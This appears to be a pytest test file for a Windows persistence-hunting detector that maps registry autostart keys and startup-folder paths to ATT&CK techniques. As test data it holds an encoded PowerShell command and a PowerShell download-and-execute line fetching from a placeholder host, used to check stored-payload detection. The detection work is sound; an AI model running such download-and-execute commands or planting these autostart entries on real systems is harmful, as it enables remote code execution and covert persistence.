"""Every autostart location that the field knows is in the table, in every hive and view it exists in."""

from __future__ import annotations

import base64
import json
from pathlib import Path

import pytest

from runkeyhunt.hunt import Hunt
from tests.places.first_look import may_concern

M = r"HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion"
MW = r"HKLM\SOFTWARE\WOW6432Node\Microsoft\Windows\CurrentVersion"
U = r"HKU\S-1-5-21-1-2-3-1001\Software\Microsoft\Windows\CurrentVersion"
UW = r"HKU\S-1-5-21-1-2-3-1001\Software\WOW6432Node\Microsoft\Windows\CurrentVersion"
MN = r"HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion"
UN = r"HKU\S-1-5-21-1-2-3-1001\Software\Microsoft\Windows NT\CurrentVersion"
C = r"HKLM\System\CurrentControlSet\Control"

PLACES = [
    (M + r"\Run\v", "Run", "T1547.001"),
    (U + r"\Run\v", "Run", "T1547.001"),
    (MW + r"\Run\v", "Run", "T1547.001"),
    (UW + r"\Run\v", "Run", "T1547.001"),
    (r"HKU\.DEFAULT\Software\Microsoft\Windows\CurrentVersion\Run\v", "Run", "T1547.001"),
    (r"HKU\S-1-12-1-1-2-3-4\Software\Microsoft\Windows\CurrentVersion\Run\v", "Run", "T1547.001"),
    (r"HKU\tmp\Software\Microsoft\Windows\CurrentVersion\Run\v", "Run", "T1547.001"),
    (r"HKLM\tmp\Microsoft\Windows\CurrentVersion\Run\v", "Run", "T1547.001"),
    (r"\REGISTRY\USER\S-1-5-21-1-2-3-1001\Software\Microsoft\Windows\CurrentVersion\Run\v", "Run", "T1547.001"),
    (M + r"\RunOnce\v", "RunOnce", "T1547.001"),
    (U + r"\RunOnce\v", "RunOnce", "T1547.001"),
    (MW + r"\RunOnce\v", "RunOnce", "T1547.001"),
    (M + r"\RunOnce\Setup\v", "RunOnceSetup", "T1547.001"),
    (M + r"\RunOnceEx\0001\1", "RunOnceEx", "T1547.001"),
    (M + r"\RunOnceEx\0001\Depend\1", "RunOnceEx", "T1547.001"),
    (U + r"\RunOnceEx\0001\1", "RunOnceEx", "T1547.001"),
    (MW + r"\RunOnceEx\0001\1", "RunOnceEx", "T1547.001"),
    (M + r"\RunEx\a\v", "RunEx", "T1547.001"),
    (M + r"\RunServices\v", "RunServices", "T1547.001"),
    (U + r"\RunServices\v", "RunServices", "T1547.001"),
    (M + r"\RunServicesOnce\v", "RunServicesOnce", "T1547.001"),
    (U + r"\RunServicesOnce\v", "RunServicesOnce", "T1547.001"),
    (M + r"\Policies\Explorer\Run\v", "PoliciesRun", "T1547.001"),
    (U + r"\Policies\Explorer\Run\v", "PoliciesRun", "T1547.001"),
    (MW + r"\Policies\Explorer\Run\v", "PoliciesRun", "T1547.001"),
    (U + r"\Explorer\User Shell Folders\Startup", "UserShellFolders", "T1547.001"),
    (U + r"\Explorer\Shell Folders\Startup", "ShellFolders", "T1547.001"),
    (M + r"\Explorer\User Shell Folders\Common Startup", "UserShellFolders", "T1547.001"),
    (M + r"\Explorer\Shell Folders\Common Startup", "ShellFolders", "T1547.001"),
    (UN + r"\Windows\Load", "WindowsLoad", "T1547.001"),
    (UN + r"\Windows\Run", "WindowsRun", "T1547.001"),
    (
        MN + r"\Terminal Server\Install\Software\Microsoft\Windows\CurrentVersion\Run\v",
        "TerminalServerRun",
        "T1547.001",
    ),
    (
        MN + r"\Terminal Server\Install\Software\Microsoft\Windows\CurrentVersion\Runonce\v",
        "TerminalServerRunOnce",
        "T1547.001",
    ),
    (
        MN + r"\Terminal Server\Install\Software\Microsoft\Windows\CurrentVersion\RunonceEx\1\v",
        "TerminalServerRunOnceEx",
        "T1547.001",
    ),
    (C + r"\Session Manager\BootExecute", "BootExecute", "T1547.001"),
    (C + r"\Session Manager\BootExecuteNoPnpSync", "BootExecute", "T1547.001"),
    (C + r"\Session Manager\SetupExecute", "SetupExecute", "T1547.001"),
    (C + r"\Session Manager\Execute", "SetupExecute", "T1547.001"),
    (C + r"\Session Manager\S0InitialCommand", "SetupExecute", "T1547.001"),
    (C + r"\Session Manager\PlatformExecute", "SetupExecute", "T1547.001"),
    (r"HKLM\System\ControlSet001\Control\Session Manager\BootExecute", "BootExecute", "T1547.001"),
    (C + r"\Terminal Server\Wds\rdpwd\StartupPrograms", "RdpStartupPrograms", "T1547.001"),
    (C + r"\Terminal Server\WinStations\RDP-Tcp\InitialProgram", "RdpInitialProgram", "T1547.001"),
    (C + r"\BootVerificationProgram\ImagePath", "BootVerification", "T1547.001"),
    (C + r"\SafeBoot\AlternateShell", "SafeBootShell", "T1547.001"),
    (MN + r"\Winlogon\Shell", "WinlogonShell", "T1547.004"),
    (UN + r"\Winlogon\Shell", "WinlogonShell", "T1547.004"),
    (MN + r"\Winlogon\Userinit", "WinlogonUserinit", "T1547.004"),
    (MN + r"\Winlogon\Taskman", "WinlogonOther", "T1547.004"),
    (MN + r"\Winlogon\Notify\x\DllName", "WinlogonNotify", "T1547.004"),
    (U + r"\Policies\System\Shell", "PoliciesShell", "T1547.004"),
    (r"HKU\S-1-5-21-1-2-3-1001\Environment\UserInitMprLogonScript", "LogonScript", "T1037.001"),
    (
        r"HKU\S-1-5-21-1-2-3-1001\Software\Policies\Microsoft\Windows\System\Scripts\Logon\0\0\Script",
        "GroupPolicyScript",
        "T1037.001",
    ),
    (M + r"\Group Policy\Scripts\Startup\0\0\Script", "GroupPolicyScriptState", "T1037.001"),
    (r"HKLM\SOFTWARE\Microsoft\Active Setup\Installed Components\{x}\StubPath", "ActiveSetup", "T1547.014"),
    (r"HKU\S-1-5-21-1-2-3-1001\Software\Microsoft\Command Processor\AutoRun", "CommandProcessor", "T1546"),
    (U + r"\Explorer\StartupApproved\Run\v", "StartupApproved", "T1547.001"),
    (U + r"\RunNotification\StartupTNotiv", "RunNotification", "T1547.001"),
    (U + r"\Explorer\RunMRU\a", "RunMRU", "T1204"),
]


@pytest.fixture(scope="module")
def hunt(app_dir: Path) -> Hunt:
    return Hunt.load(app_dir, baseline=False)


@pytest.mark.parametrize(("target", "location", "technique"), PLACES, ids=[place[0] for place in PLACES])
def test_place(hunt: Hunt, target: str, location: str, technique: str) -> None:
    verdict = hunt.judge({"EventCode": "13", "TargetObject": target, "Details": r"C:\Program Files\A\a.exe"})
    assert verdict is not None
    assert (verdict.location, verdict.techniques[0]) == (location, technique)


@pytest.mark.parametrize(
    ("target", "location"),
    [
        (r"C:\Users\anna\AppData\Roaming\Microsoft\Windows\Start Menu\Programs\Startup\a.bat", "StartupFolder"),
        (r"C:\ProgramData\Microsoft\Windows\Start Menu\Programs\StartUp\a.lnk", "StartupFolder"),
        (r"C:\Documents and Settings\joe\Start Menu\Programs\Startup\a.lnk", "StartupFolder"),
        (r"D:\Users\anna\ntuser.man", "MandatoryProfile"),
    ],
)
def test_file(hunt: Hunt, target: str, location: str) -> None:
    verdict = hunt.judge({"EventCode": "11", "TargetFilename": target, "Image": r"C:\Windows\explorer.exe"})
    assert verdict is not None
    assert verdict.location == location


@pytest.mark.parametrize(
    "target",
    [
        r"C:\Users\anna\Desktop\ntuser.man",
        r"C:\Users\anna\NTUSER.DAT",
        r"C:\Users\anna\Programs\Startup\a.exe",
        r"C:\ProgramData\Microsoft\Windows\Start Menu\Programs\a.lnk",
    ],
)
def test_other_files_are_none(hunt: Hunt, target: str) -> None:
    assert hunt.judge({"EventCode": "11", "TargetFilename": target}) is None


@pytest.mark.parametrize(
    "target",
    [
        MN + r"\Winlogon\LastUsedUsername",
        MN + r"\Winlogon\GPExtensions\{x}\MaxNoGPOListChangesInterval",
        C + r"\Session Manager\PendingFileRenameOperations",
        r"HKU\S-1-5-21-1-2-3-1001\Environment\PATH",
        M + r"\Policies\System\EnableLUA",
        U + r"\Explorer\User Shell Folders\Desktop",
        M + r"\Group Policy\Scripts\Startup\0\0\ExecTime",
    ],
)
def test_other_values_of_the_same_keys_are_none(hunt: Hunt, target: str) -> None:
    assert hunt.judge({"EventCode": "13", "TargetObject": target, "Details": "x"}) is None


def test_noise_is_named_and_judged_by_no_rule(hunt: Hunt) -> None:
    verdict = hunt.judge(
        {
            "EventCode": "13",
            "TargetObject": U + r"\Explorer\StartupApproved\Run\v",
            "Details": "powershell -enc SQBFAFgAIAAkAGUAbgB2AA==",
        }
    )
    assert verdict is not None
    assert (verdict.score, verdict.rules) == (5, ())


def test_an_encoded_script_is_found_wherever_it_is_kept(hunt: Hunt) -> None:
    script = "IEX (New-Object Net.WebClient).DownloadString('https://h.example/a'); " * 3
    data = base64.b64encode(script.encode("utf-16-le")).decode()
    verdict = hunt.judge(
        {"EventCode": "13", "TargetObject": r"HKU\S-1-5-21-1-2-3-1001\Software\Vendor\Debug", "Details": data}
    )
    assert verdict is not None
    assert (verdict.location, verdict.key, verdict.value_name, verdict.techniques[0]) == (
        "StoredPayload",
        r"HKU\S-1-5-21-1-2-3-1001\Software\Vendor",
        "Debug",
        "T1027.011",
    )
    assert verdict.decoded == script
    assert verdict.score >= 60


def test_the_first_look_at_a_whole_record_misses_no_location(hunt: Hunt) -> None:
    for target, _, _ in PLACES:
        for text in (
            f"13,{target},x",
            f'"{target}"\n',
            f"<Data Name='TargetObject'>{target}</Data>",
            json.dumps({"a": target}),
        ):
            assert may_concern(hunt, text), text
    assert not may_concern(
        hunt, r'13,"HKU\S-1-5-21-1\Software\Microsoft\Windows\CurrentVersion\Explorer\RecentDocs\0","Binary Data",'
    )
    assert may_concern(hunt, "13,HKLM\\SOFTWARE\\Vendor\\x," + "A" * 200)
